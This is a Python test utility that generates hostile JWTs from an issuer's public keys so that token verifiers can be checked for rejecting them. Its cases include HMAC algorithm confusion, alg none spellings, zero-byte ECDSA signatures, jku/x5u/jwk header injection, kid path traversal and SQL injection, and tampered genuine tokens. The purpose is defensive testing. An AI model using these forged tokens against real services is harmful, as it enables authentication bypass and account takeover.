#!/usr/bin/env python3
"""Hostile tokens built from a real JWKS (README.md): the token-hardening cases of algorithm
confusion and header injection, repeated with the issuer's real public keys.

    attack_tokens.py (--jwks-url URL | --jwks-file FILE) --issuer ISS [--audience AUD]
                     [--token GENUINE] [--kid KID] [--attacker-url URL]

Prints a JSON list of {"name", "token", "expect": "rejected", "why"}. Every one must be refused
by every verifier of the issuer's tokens. With --token (a genuine token of the issuer) the claims
are copied from it (fresh times), so that a refusal is about the key or the header and never
about a missing claim, and the cases that tamper with a real signature are added. --kid picks
the target key (default: the genuine token's kid, else the JWKS's first key). --attacker-url is
where jku/x5u point (default http://127.0.0.1:9, where nothing listens); selftest.py and e2e.py
serve the attacker's JWKS and certificate there and fail if any verifier fetches them.

Importable: build(jwks, issuer, ...) -> (attacks, attacker) where attacker.routes are what the
attacker host serves.
"""

from __future__ import annotations

import argparse
import base64
import datetime
import json
import sys
import time
import uuid
import warnings

import os

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import common  # noqa: E402
from cryptography import x509  # noqa: E402
from cryptography.hazmat.primitives import hashes, serialization  # noqa: E402
from cryptography.hazmat.primitives.asymmetric import ed25519  # noqa: E402
from cryptography.x509.oid import NameOID  # noqa: E402

SIGNATURE_BYTES = {"ES256": 64, "ES384": 96, "EdDSA": 64}


def alg_of(jwk: dict) -> str:
    """The JWK's alg, or the one its key type implies (as keycard-token does)."""
    if jwk.get("alg"):
        return jwk["alg"]
    if jwk["kty"] == "EC":
        return {"P-256": "ES256", "P-384": "ES384"}.get(jwk.get("crv"), "ES256")
    if jwk["kty"] == "OKP":
        return "EdDSA"
    return "RS256"


class Attacker:
    """The attacker's own keys (one per algorithm), their JWKS and self-signed certificates."""

    def __init__(self, url: str):
        self.url = url.rstrip("/")
        self.keys: dict[str, object] = {}
        self.certs: dict[str, x509.Certificate] = {}

    def key(self, alg: str):
        if alg not in self.keys:
            self.keys[alg] = common.generate(alg)
        return self.keys[alg]

    def jwk(self, alg: str) -> dict:
        return common.jwk_for(self.key(alg), alg)

    def cert(self, alg: str) -> x509.Certificate:
        if alg not in self.certs:
            key = self.key(alg)
            name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "attacker.invalid")])
            now = datetime.datetime.now(datetime.timezone.utc)
            builder = (x509.CertificateBuilder().subject_name(name).issuer_name(name)
                       .public_key(key.public_key()).serial_number(x509.random_serial_number())
                       .not_valid_before(now - datetime.timedelta(days=1))
                       .not_valid_after(now + datetime.timedelta(days=1)))
            digest = None if isinstance(key, ed25519.Ed25519PrivateKey) else hashes.SHA256()
            self.certs[alg] = builder.sign(key, digest)
        return self.certs[alg]

    def jwks_url(self) -> str:
        return f"{self.url}/jwks.json"

    def cert_url(self, alg: str) -> str:
        return f"{self.url}/{alg}.pem"

    @property
    def routes(self) -> dict[str, tuple[str, bytes]]:
        routes = {"/jwks.json": ("application/json",
                                 json.dumps({"keys": [self.jwk(a) for a in self.keys]}).encode())}
        for alg in self.keys:
            routes[f"/{alg}.pem"] = ("application/pem-certificate-chain",
                                     self.cert(alg).public_bytes(serialization.Encoding.PEM))
        return routes


def claims_template(issuer: str, audience: str | None, genuine: str | None) -> dict:
    now = int(time.time())
    if genuine:
        _, claims, _ = common.segments(genuine)
        claims = dict(claims)
        lifetime = max(60, int(claims.get("exp", now + 600)) - int(claims.get("iat", now)))
        claims.update({"iat": now, "exp": now + lifetime})
        if "nbf" in claims:
            claims["nbf"] = now
        if "jti" in claims:
            claims["jti"] = str(uuid.uuid4()) if "-" in str(claims["jti"]) else uuid.uuid4().hex
        # The expected iss/aud even when the genuine token lacks them: a refusal must never be
        # about those.
        claims.setdefault("iss", issuer)
        if audience:
            claims.setdefault("aud", audience)
        return claims
    claims = {"iss": issuer, "sub": "admin", "iat": now, "nbf": now, "exp": now + 600,
              "jti": str(uuid.uuid4()), "type": "access", "fresh": True}
    if audience:
        claims["aud"] = audience
    return claims


def build(jwks: dict, issuer: str, audience: str | None = None, genuine: str | None = None,
          kid: str | None = None, attacker_url: str = "http://127.0.0.1:9") -> tuple[list[dict], Attacker]:
    keys = [k for k in jwks.get("keys", []) if k.get("kty") in ("EC", "OKP", "RSA")]
    attacker = Attacker(attacker_url)
    if kid is None and genuine:
        kid = common.segments(genuine)[0].get("kid")
    target = next((k for k in keys if k.get("kid") == kid), keys[0] if keys else None)
    claims = claims_template(issuer, audience, genuine)
    attacks: list[dict] = []

    def add(name: str, token: str, why: str):
        attacks.append({"name": name, "token": token, "expect": "rejected", "why": why})

    # The attacker signs with its own key of the target's algorithm (ES256 when there is no
    # published key at all, e.g. keycard on HS256).
    alg = alg_of(target) if target else "ES256"
    real_kid = target.get("kid") if target else None
    akey, ajwk = attacker.key(alg), attacker.jwk(alg)
    akid = ajwk["kid"]
    public_ajwk = {k: v for k, v in ajwk.items() if k in ("kty", "crv", "x", "y", "n", "e")}

    def with_kid(header: dict, value: str | None) -> dict:
        if value is not None:
            header["kid"] = value
        return header

    # --- algorithm confusion: the real public key as an HMAC secret ---------------------------
    if target:
        public = common.public_key_from_jwk(target)
        pem = common.public_pem(public)
        published = json.dumps(target, separators=(",", ":")).encode()
        canonical_members = {"EC": ("crv", "kty", "x", "y"), "OKP": ("crv", "kty", "x"),
                             "RSA": ("e", "kty", "n")}[target["kty"]]
        canonical = json.dumps({m: target[m] for m in canonical_members}, separators=(",", ":"),
                               sort_keys=True).encode()
        secrets = [
            ("pem", pem), ("pem-no-newline", pem.rstrip(b"\n")), ("der", common.public_der(public)),
            ("jwk-json", published), ("jwk-canonical", canonical),
        ]
        for label, secret in secrets:
            add(f"hs256-secret-{label}", _hmac("HS256", secret, claims, with_kid({"typ": "JWT"}, real_kid)),
                f"HS256 signed with the public key ({label}) as the HMAC secret: algorithm confusion")
        add("hs512-secret-pem", _hmac("HS512", pem, claims, with_kid({"typ": "JWT"}, real_kid)),
            "HS512 with the public PEM as the secret")
        add("hs256-secret-pem-no-kid", _hmac("HS256", pem, claims, {"typ": "JWT"}),
            "HS256 with the public PEM as the secret and no kid (a verifier with one key might pick it)")
        add("hs256-lowercase-secret-pem", _hmac("HS256", pem, claims, with_kid({"typ": "JWT"}, real_kid), name="hs256"),
            "alg spelt hs256, HMAC with the public PEM as the secret (case games on the name)")

    # --- alg none ------------------------------------------------------------------------------
    for spelling in ("none", "None", "NONE", "nOnE"):
        add(f"alg-{spelling}", common.unsigned(with_kid({"alg": spelling, "typ": "JWT"}, real_kid), claims),
            "unsecured JWS (alg none), empty signature")
    add("alg-none-no-kid", common.unsigned({"alg": "none", "typ": "JWT"}, claims), "alg none, no kid")
    add("alg-missing", common.unsigned(with_kid({"typ": "JWT"}, real_kid), claims, b"\x00" * 64),
        "no alg header at all")

    # --- forged or missing signatures on the real kid -------------------------------------------
    if target:
        add("empty-signature", common.unsigned(with_kid({"alg": alg, "typ": "JWT"}, real_kid), claims),
            f"{alg} header with the real kid and an empty signature")
        size = SIGNATURE_BYTES.get(alg, 256)
        add("zero-signature", common.unsigned(with_kid({"alg": alg, "typ": "JWT"}, real_kid), claims, b"\x00" * size),
            f"{alg} signature of {size} zero bytes (ECDSA r=s=0, CVE-2022-21449)")
    add("forged-real-kid", common.sign(alg, akey, claims, with_kid({}, real_kid or "0")),
        f"{alg} signed by the attacker's key, carrying the real kid")
    add("unknown-kid", common.sign(alg, akey, claims, {"kid": "unknown-" + uuid.uuid4().hex}),
        "signed by the attacker, a kid the issuer never published")
    add("attacker-kid", common.sign(alg, akey, claims, {"kid": akid}),
        "signed by the attacker, the kid (thumbprint) of the attacker's key")
    add("no-kid-attacker", common.sign(alg, akey, claims, {}),
        "signed by the attacker, no kid at all")

    # --- header injection: jwk / jku / x5u / x5c ------------------------------------------------
    add("jwk-header", common.sign(alg, akey, claims, {"jwk": public_ajwk}),
        "embedded jwk header carrying the attacker's public key, signed with its private key")
    add("jwk-header-attacker-kid", common.sign(alg, akey, claims, {"kid": akid, "jwk": public_ajwk}),
        "embedded attacker jwk with its own kid")
    if real_kid:
        add("jwk-header-real-kid", common.sign(alg, akey, claims, {"kid": real_kid, "jwk": public_ajwk}),
            "embedded attacker jwk, header claims the real kid")
    oct_secret = b"attacker-key-attacker-key-attacker-key"
    add("jwk-header-oct", _hmac("HS256", oct_secret, claims, {"typ": "JWT", "jwk": {"kty": "oct", "k": common.b64u(oct_secret)}}),
        "embedded symmetric (oct) jwk header, HS256 with that key")
    add("x5t-header", common.sign(alg, akey, claims, with_kid({"x5t": common.b64u(b"\x01" * 20)}, real_kid)),
        "x5t thumbprint header (keycard refuses the x5* family), attacker-signed")
    add("jku-attacker", common.sign(alg, akey, claims, {"kid": akid, "jku": attacker.jwks_url()}),
        "jku pointing at the attacker's JWKS (which does hold this kid)")
    if real_kid:
        add("jku-real-kid", common.sign(alg, akey, claims, {"kid": real_kid, "jku": attacker.jwks_url()}),
            "jku to the attacker's JWKS with the real kid")
    add("x5u-attacker", common.sign(alg, akey, claims, {"kid": akid, "x5u": attacker.cert_url(alg)}),
        "x5u pointing at the attacker's self-signed certificate")
    cert_der = attacker.cert(alg).public_bytes(serialization.Encoding.DER)
    add("x5c-attacker", common.sign(alg, akey, claims, with_kid({"x5c": [base64.b64encode(cert_der).decode()]}, real_kid)),
        "x5c header embedding the attacker's certificate (standard base64 DER)")

    # --- hostile kids ---------------------------------------------------------------------------
    add("kid-path-traversal-hs256", _hmac("HS256", b"", claims, {"kid": "../../dev/null"}),
        "kid ../../dev/null, HS256 with the empty secret (a kid used as a file path)")
    add("kid-path-traversal", common.sign(alg, akey, claims, {"kid": "../../dev/null"}),
        "kid ../../dev/null, signed by the attacker")
    add("kid-sql-injection", _hmac("HS256", b"secret", claims, {"kid": "x' UNION SELECT 'secret' --"}),
        "kid with SQL injection, HS256 with the injected secret")
    for label, hostile in (("empty", ""), ("dev-null", "/dev/null"), ("etc-passwd", "../../../../../../etc/passwd"),
                           ("nul", "\u0000"), ("url", "http://127.0.0.1:1/key"), ("sql-or", "' OR 1=1 --")):
        add(f"kid-{label}-hs256", _hmac("HS256", b"", claims, {"kid": hostile}),
            f"kid {hostile!r}, HS256 with the empty secret")
    for label, hostile in (("int", 0), ("array", ["a"]), ("object", {"path": "/dev/null"}), ("bool", True)):
        add(f"kid-not-a-string-{label}", _hmac("HS256", b"", claims, {"kid": hostile}),
            f"kid {json.dumps(hostile)} (not a string)")
    others = [k for k in keys if k is not target and k.get("kid")]
    for other in others[:2]:
        other_alg = alg_of(other)
        add(f"kid-of-other-key-{other_alg}", common.sign(other_alg, attacker.key(other_alg), claims,
                                                         {"kid": other["kid"]}),
            f"the kid of another published key ({other_alg}), signed by the attacker")

    # --- tampering with a genuine token ---------------------------------------------------------
    if genuine:
        header, payload, signature = common.segments(genuine)
        h, p, s = genuine.split(".")
        for relabel in ("ES256", "ES384", "EdDSA", "RS256", "PS256", "HS256", "none"):
            if relabel != header.get("alg"):
                add(f"relabel-{header.get('alg')}-as-{relabel}",
                    f"{common.b64u_json(dict(header, alg=relabel))}.{p}.{s}",
                    f"the genuine token with alg {header.get('alg')} relabelled {relabel}, signature kept")
        add("genuine-signature-stripped", f"{h}.{p}.", "the genuine token with its signature removed")
        add("genuine-tampered-sub", f"{h}.{common.b64u_json(dict(payload, sub='admin'))}.{s}",
            "the genuine token with sub changed to admin, signature kept")
        if "kid" in header:
            no_kid = {k: v for k, v in header.items() if k != "kid"}
            add("genuine-kid-removed", f"{common.b64u_json(no_kid)}.{p}.{s}",
                "the genuine token with its kid removed, signature kept")
        for other in others[:2]:
            add(f"genuine-kid-of-other-key-{alg_of(other)}",
                f"{common.b64u_json(dict(header, kid=other['kid']))}.{p}.{s}",
                "the genuine token relabelled with the kid of another published key")
        # Valid signature, hostile header: a verifier that follows jku must not even fetch it.
        # (Any header change breaks the signature, so these are refused on the signature too.)
        add("genuine-plus-jku", f"{common.b64u_json(dict(header, jku=attacker.jwks_url()))}.{p}.{s}",
            "the genuine token with a jku header added")
    return attacks, attacker


def _hmac(alg: str, secret: bytes, claims: dict, headers: dict, name: str | None = None) -> str:
    # PyJWT's HMAC refuses PEM/JWK-looking secrets (its own confusion guard) and warns about
    # short ones: the attacker uses hmac directly.
    import hashlib
    import hmac

    header = {"alg": name or alg, **headers}
    signing_input = f"{common.b64u_json(header)}.{common.b64u_json(claims)}"
    digest = {"HS256": hashlib.sha256, "HS384": hashlib.sha384, "HS512": hashlib.sha512}[alg]
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        mac = hmac.new(secret, signing_input.encode(), digest).digest()
    return f"{signing_input}.{common.b64u(mac)}"


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    source = parser.add_mutually_exclusive_group(required=True)
    source.add_argument("--jwks-url")
    source.add_argument("--jwks-file")
    parser.add_argument("--issuer", required=True)
    parser.add_argument("--audience")
    parser.add_argument("--token", help="a genuine token of the issuer")
    parser.add_argument("--kid")
    parser.add_argument("--attacker-url", default="http://127.0.0.1:9")
    args = parser.parse_args()
    if args.jwks_url:
        jwks = common.get_json(args.jwks_url)
    else:
        with open(args.jwks_file) as f:
            jwks = json.load(f)
    attacks, _ = build(jwks, args.issuer, args.audience, args.token, args.kid, args.attacker_url)
    json.dump(attacks, sys.stdout, indent=1)
    print()
    return 0


if __name__ == "__main__":
    sys.exit(main())
